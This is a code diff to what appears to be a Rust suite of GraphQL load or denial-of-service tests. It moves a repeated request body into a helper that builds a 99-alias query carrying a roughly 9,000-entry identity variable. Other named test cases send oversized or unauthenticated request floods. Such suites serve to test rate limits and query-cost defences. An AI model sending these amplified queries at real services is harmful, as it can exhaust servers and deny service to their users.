@@ -18,14 +18,7 @@ pub(super) const ALL: &[Attack] = &[
         f,
         y,
         false,
-        body(
-            &aliases(
-                "query($i:[ConfluenceIdentityInput!]!)",
-                99,
-                "resolve(identities:$i){status}"
-            ),
-            json!({ "i": vec![json!({ "email": "a" }); 9_000] })
-        ),
+        one_variable_99_times(),
         ""
     )),
     attack!("a variable of 150 kB used 99 times", |t, f, y| posts(
@@ -33,14 +26,7 @@ pub(super) const ALL: &[Attack] = &[
         f,
         y,
         true,
-        body(
-            &aliases(
-                "query($i:[ConfluenceIdentityInput!]!)",
-                99,
-                "resolve(identities:$i){status}"
-            ),
-            json!({ "i": vec![json!({ "email": "a" }); 9_000] })
-        ),
+        one_variable_99_times(),
         ""
     )),
     attack!("one field 490 times, without a token", |t, f, y| posts(
@@ -208,6 +194,17 @@ fn aliases(head: &str, count: usize, field: &str) -> String {
 
 fn body(query: &str, variables: Value) -> String {
     json!({ "query": query, "variables": variables }).to_string()
+}
+
+fn one_variable_99_times() -> String {
+    body(
+        &aliases(
+            "query($i:[ConfluenceIdentityInput!]!)",
+            99,
+            "resolve(identities:$i){status}",
+        ),
+        json!({ "i": vec![json!({ "email": "a" }); 9_000] }),
+    )
 }
 
 /// Each of its 91 texts takes as long as one may.
